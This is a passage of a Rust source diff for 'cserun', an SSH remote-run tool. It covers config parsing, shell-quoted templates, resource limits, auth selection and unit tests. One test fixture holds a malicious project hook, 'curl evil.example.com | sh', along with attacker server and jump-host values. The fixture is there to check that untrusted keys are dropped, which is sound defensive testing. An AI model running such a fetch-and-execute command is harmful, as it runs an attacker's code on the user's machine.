+    }
+    Ok(user)
+}
+
+// add `user = ...` right under the section's header, or the section at the end of the file
+fn save_user(path: &Path, section: &str, user: &str) -> io::Result<()> {
+    let contents = match fs::read_to_string(path) {
+        Ok(contents) => contents,
+        Err(e) if e.kind() == io::ErrorKind::NotFound => String::new(),
+        Err(e) => return Err(e),
+    };
+    let header = format!("[{}]", section);
+    let line = format!("user = {}", toml::Value::String(user.to_string()));
+    let mut lines: Vec<&str> = contents.lines().collect();
+    // the header may have a comment after it, e.g. `[server] # the cse login node`
+    match lines.iter().position(|l| {
+        l.trim()
+            .strip_prefix(&header)
+            .is_some_and(|rest| rest.trim().is_empty() || rest.trim().starts_with('#'))
+    }) {
+        Some(index) => lines.insert(index + 1, &line),
+        None => {
+            if !lines.is_empty() {
+                lines.push("");
+            }
+            lines.push(&header);
+            lines.push(&line);
+        }
+    }
+    fs::write(path, lines.join("\n") + "\n")
+}
+
+// a duration like "90", "90s", "5m" or "1h", plain numbers are seconds
+pub fn parse_duration(s: &str) -> Result<Duration, String> {
+    let s = s.trim();
+    let (number, unit) = match s.find(|c: char| !c.is_ascii_digit()) {
+        Some(index) => s.split_at(index),
+        None => (s, "s"),
+    };
+    let number: u64 = number
+        .parse()
+        .map_err(|_| format!("{:?} is not a duration like 90s, 5m or 1h", s))?;
+    let unit_seconds: u64 = match unit {
+        "s" => 1,
+        "m" => 60,
+        "h" => 3600,
+        "d" => 86400,
+        _ => return Err(format!("{:?} is not a duration like 90s, 5m or 1h", s)),
+    };
+    let seconds = number
+        .checked_mul(unit_seconds)
+        .ok_or_else(|| format!("{:?} is too long a duration", s))?;
+    Ok(Duration::from_secs(seconds))
+}
+
+// a size like "200MB", "1.5GiB" or "4096", units are powers of 1024
+pub fn parse_size(s: &str) -> Result<u64, String> {
+    let s = s.trim();
+    let split = s
+        .find(|c: char| !c.is_ascii_digit() && c != '.')
+        .unwrap_or(s.len());
+    let (number, unit) = s.split_at(split);
+    let number: f64 = number
+        .parse()
+        .map_err(|_| format!("{:?} is not a size like 500KB, 200MB or 2GB", s))?;
+    let multiplier: u64 = match unit.trim().to_uppercase().as_str() {
+        "" | "B" => 1,
+        "K" | "KB" | "KIB" => 1 << 10,
+        "M" | "MB" | "MIB" => 1 << 20,
+        "G" | "GB" | "GIB" => 1 << 30,
+        _ => return Err(format!("{:?} is not a size like 500KB, 200MB or 2GB", s)),
+    };
+    Ok((number * multiplier as f64) as u64)
+}
+
+// a template with its {placeholders} filled in order of first use, every value quoted for the shell.
+// `{}`, `${VAR}` and brace expansions like `{a,b}` are left alone
+pub fn expand_template(name: &str, template: &str, args: &[String]) -> error::Result<String> {
+    let parts = template_parts(template);
+    let mut placeholders: Vec<&str> = Vec::new();
+    for part in &parts {
+        if let TemplatePart::Placeholder(placeholder) = part {
+            if !placeholders.contains(placeholder) {
+                placeholders.push(placeholder);
+            }
+        }
+    }
+    if args.len() != placeholders.len() {
+        let usage: Vec<String> = placeholders.iter().map(|p| format!(" <{}>", p)).collect();
+        return Err(CserunError::Config(
+            format!(
+                "Template {} takes {} argument(s): cserun {}{}",
+                name,
+                placeholders.len(),
+                name,
+                usage.concat()
+            )
+            .into(),
+        ));
+    }
+    Ok(parts
+        .into_iter()
+        .map(|part| match part {
+            TemplatePart::Text(text) => text.to_string(),
+            TemplatePart::Placeholder(placeholder) => {
+                let index = placeholders.iter().position(|p| *p == placeholder);
+                shell_quote(&args[index.unwrap()])
+            }
+        })
+        .collect())
+}
+
+enum TemplatePart<'a> {
+    Text(&'a str),
+    Placeholder(&'a str),
+}
+
+fn template_parts(template: &str) -> Vec<TemplatePart<'_>> {
+    let mut parts = Vec::new();
+    let mut text_start = 0;
+    let mut search_from = 0;
+    while let Some(offset) = template[search_from..].find('{') {
+        let start = search_from + offset;
+        search_from = start + 1;
+        let Some(length) = template[start..].find('}') else {
+            break;
+        };
+        let placeholder = &template[start + 1..start + length];
+        let is_placeholder = !placeholder.is_empty()
+            && !template[..start].ends_with('$')
+            && placeholder
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+        if is_placeholder {
+            parts.push(TemplatePart::Text(&template[text_start..start]));
+            parts.push(TemplatePart::Placeholder(placeholder));
+            text_start = start + length + 1;
+            search_from = text_start;
+        }
+    }
+    parts.push(TemplatePart::Text(&template[text_start..]));
+    parts
+}
+
+// the limits of [server.limits], with the default way of applying each unless it is mapped
+fn parse_limits(config: LimitsConfig) -> Result<Limits, String> {
+    let defaults = Limits::default();
+    let mem_limit = config
+        .mem_limit
+        .as_deref()
+        .map(|size| {
+            parse_size(size).map_err(|e| format!("Invalid mem_limit in [server.limits]: {}", e))
+        })
+        .transpose()?;
+    let cpu_time = config
+        .cpu_time
+        .as_deref()
+        .map(|time| {
+            parse_duration(time).map_err(|e| format!("Invalid cpu_time in [server.limits]: {}", e))
+        })
+        .transpose()?;
+    let commands = [
+        ("nice_command", &config.nice_command),
+        ("mem_limit_command", &config.mem_limit_command),
+        ("cpu_time_command", &config.cpu_time_command),
+    ];
+    for (key, command) in commands {
+        if command
+            .as_ref()
+            .is_some_and(|command| !command.contains("{}"))
+        {
+            return Err(format!(
+                "Invalid {} in [server.limits]: it needs a {{}} for the value",
+                key
+            ));
+        }
+    }
+    Ok(Limits {
+        nice: config.nice,
+        mem_limit,
+        cpu_time: cpu_time.map(|time| time.as_secs()),
+        nice_command: config.nice_command.unwrap_or(defaults.nice_command),
+        mem_limit_command: config
+            .mem_limit_command
+            .unwrap_or(defaults.mem_limit_command),
+        cpu_time_command: config.cpu_time_command.unwrap_or(defaults.cpu_time_command),
+    })
+}
+
+// a bare shell name becomes a login shell, "none" runs commands with the account's shell as is
+fn parse_shell(shell: &str) -> Option<String> {
+    match shell.trim() {
+        "" | "none" => None,
+        name if !name.contains(' ') => Some(format!("{} -l -c", name)),
+        shell => Some(shell.to_string()),
+    }
+}
+
+// a valid POSIX shell variable name
+pub fn is_env_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+fn get_auth(auth_config: AuthConfig, identity_file: Option<PathBuf>) -> Result<Auth, String> {
+    Ok(match auth_config.auth_type {
+        // without a password it is asked for when connecting
+        AuthType::Password => Auth::Password(auth_config.password),
+        AuthType::Key => {
+            let private_key_path = match auth_config.private_key_path.map(PathBuf::from) {
+                Some(p) => p,
+                None => match identity_file {
+                    Some(p) => p,
+                    None => return Err("Private key path not found in config".to_string()),
+                },
             };
-            let public_key_path = match config.auth.public_key_path {
-                Some(p) => Some(PathBuf::from(p.as_str())),
-                None => None,
-            };
-            let passphrase = match config.auth.passphrase {
-                Some(p) => Some(p),
-                None => None,
-            };
+            let public_key_path = auth_config.public_key_path.map(PathBuf::from);
+            let passphrase = auth_config.passphrase;
             Auth::AuthKey(AuthKey {
                 pubkey: public_key_path,
                 privekey: private_key_path,
                 passphrase,
             })
         }
-        AuthType::Agent => Auth::Agent,
-    };
-    Config {
-        server_addr: format!("{}:{}", config.server.addr, config.server.port),
-        username: config.server.user,
-        auth,
-        command: String::new(),
-        envs: Vec::new(),
-        no_sync: false,
+        AuthType::Agent => Auth::Agent(auth_config.identity),
+        AuthType::KeyboardInteractive => Auth::KeyboardInteractive,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn table(toml: &str) -> toml::Table {
+        toml.parse().unwrap()
+    }
+
+    #[test]
+    fn later_layers_and_profiles_win() {
+        let global = table(
+            r#"
+            profile = "lab"
+            [server]
+            addr = "cse.unsw.edu.au"
+            user = "z5555555"
+            [profiles.lab.server]
+            addr = "lab.cse.unsw.edu.au"
+            [profiles.gpu.server]
+            addr = "gpu.cse.unsw.edu.au"
+            "#,
+        );
+        let project = table(
+            r#"
+            [server]
+            remote_dir = "comp3231"
+            [profiles.lab.sync]
+            ignore = ["build"]
+            "#,
+        );
+        let merged = merge_layers(vec![global.clone(), project.clone()], None).unwrap();
+        assert_eq!(
+            merged,
+            table(
+                r#"
+                [server]
+                addr = "lab.cse.unsw.edu.au"
+                user = "z5555555"
+                remote_dir = "comp3231"
+                [sync]
+                ignore = ["build"]
+                "#
+            )
+        );
+        // --profile over the default in the file
+        let merged = merge_layers(vec![global.clone(), project.clone()], Some("gpu")).unwrap();
+        assert_eq!(
+            merged["server"]["addr"].as_str(),
+            Some("gpu.cse.unsw.edu.au")
+        );
+        assert!(merged.get("sync").is_none());
+        assert!(merge_layers(vec![global, project], Some("cpu")).is_err());
+    }
+
+    #[test]
+    fn a_project_config_can_not_pick_the_server() {
+        let mut project = table(
+            r#"
+            [server]
+            addr = "evil.example.com"
+            remote_dir = "comp3231"
+            [hooks]
+            pre_sync = "curl evil.example.com | sh"
+            [profiles.lab.server]
+            jump_host = "evil.example.com"
+            shell = "bash -l -c"
+            "#,
+        );
+        let mut dropped = drop_untrusted(&mut project);
+        dropped.sort();
+        assert_eq!(
+            dropped,
+            ["[hooks]", "profiles.lab.server.jump_host", "server.addr"]
+        );
+        assert_eq!(
+            project,
+            table(
+                r#"
+                [server]
+                remote_dir = "comp3231"
+                [profiles.lab.server]
+                shell = "bash -l -c"
+                "#
+            )
+        );
+    }
+
+    #[test]
+    fn nested_tables_merge_key_by_key() {
+        let mut base = table("[server]\naddr = \"a\"\nport = 22\n[env]\nCC = \"gcc\"");
+        merge_table(
+            &mut base,
+            table("[server]\nport = 2222\n[env]\nCC = \"clang\""),
+        );
+        assert_eq!(
+            base,
+            table("[server]\naddr = \"a\"\nport = 2222\n[env]\nCC = \"clang\"")
+        );
+        // a table replaces a value of another type as a whole
+        merge_table(&mut base, table("env = \"none\""));
+        assert_eq!(base["env"].as_str(), Some("none"));
     }
 }